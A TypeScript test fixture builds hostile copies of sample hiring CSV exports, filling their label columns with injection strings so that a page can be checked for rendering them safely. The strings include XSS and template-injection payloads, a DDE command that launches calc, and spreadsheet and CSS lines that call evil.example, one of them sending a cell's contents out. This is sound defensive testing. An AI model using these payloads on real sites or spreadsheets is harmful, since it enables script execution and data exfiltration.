import {cpSync, readdirSync, readFileSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import {fileURLToPath} from "node:url";
import {createRandom} from "../../src/statistics/random.js";

const sample = fileURLToPath(new URL("../../data/sample", import.meta.url));

/** Columns of free text that a page may show, by file. */
const labels: Record<string, readonly string[]> = {
  "applications.csv": ["role", "level", "team", "job", "source"],
  "ratings.csv": ["question", "attribute"],
  "scorecards.csv": ["focus"],
  "interviews.csv": ["focus"],
  "interviewers.csv": ["name", "team"]
};

/** What would run, close, escape or hide if a label were ever taken for anything but text. */
const attacks = [
  '<img src=x onerror="window.pwned=1">',
  "</script><script>window.pwned=1</script>",
  "<svg/onload=window.pwned=1>",
  "${window.pwned=1}",
  "`+(window.pwned=1)+`",
  "{{window.pwned=1}}",
  "<!-- --><iframe srcdoc='<script>parent.pwned=1</script>'>",
  '" onmouseover="window.pwned=1" x="',
  "'; window.pwned=1; //",
  "[x](javascript:window.pwned=1) **b** ![i](https://evil.example/i.png)",
  '<a href="javascript:window.pwned=1" id=observablehq-main name=FileAttachment>a</a>',
  "<style>*{background:url(https://evil.example/c)}</style>",
  "__proto__",
  "constructor",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "\u202egnp.exe\u202c",
  "\u2067<b>right to left</b>\u2069",
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "]]><x>",
  "\\u003cscript\\u003e",
  "🧨 naïve ﷽",
  "x".repeat(180)
];

/** The number of a candidate, which all their ids in the sample hold; 0 for a line of nobody. */
function candidateOf(line: string): number {
  return Number(/\b[AS](\d{5})\b/.exec(line)?.[1] ?? 0);
}

/** Those that a name can be, too: of what stands in brackets no word is looked for in the labels. */
const tags = attacks.filter((attack) => attack.startsWith("<"));

/**
 * A copy of the sample exports in `folder`, of its first `candidates`, in which every value of every label column is some
 * attack, alone or two joined; equal values stay equal.
 */
export function hostileExports(
  folder: string,
  seed: number,
  candidates: number
): {folder: string; labels: Map<string, string>} {
  cpSync(sample, folder, {recursive: true});
  const random = createRandom(seed);
  const pick = (): string => attacks[random.integer(attacks.length)]!;
  const renamed = new Map<string, string>();
  const hostile = (value: string, isName: boolean): string => {
    if (value === "") return value;
    const known = renamed.get(value);
    if (known !== undefined) return known;
    // Every attack in turn before any by chance; the number keeps different labels apart.
    const attack = isName
      ? tags[renamed.size % tags.length]!
      : renamed.size < attacks.length
        ? attacks[renamed.size]!
        : `${pick()}${random.uniform() < 0.3 ? pick() : ""}`;
    const label = `${attack} ${renamed.size}`;
    renamed.set(value, label);
    return label;
  };
  for (const name of readdirSync(folder).filter((file) => file.endsWith(".csv"))) {
    const file = join(folder, name);
    const [header, ...all] = readFileSync(file, "utf8").trim().split(/\r?\n/);
    const lines = all.filter((line) => candidateOf(line) <= candidates);
    const columns = labels[name] ?? [];
    const places = columns.map((column) => header!.split(",").indexOf(column));
    const changed = lines.map((line) => {
      // The sample's cells hold neither commas nor quotes.
      const cells = line.split(",");
      for (const place of places)
        cells[place] = `"${hostile(cells[place]!, header!.split(",")[place] === "name").replaceAll('"', '""')}"`;
      return cells.join(",");
    });
    writeFileSync(file, `${[header, ...changed].join("\n")}\n`);
  }
  return {folder, labels: renamed};
}
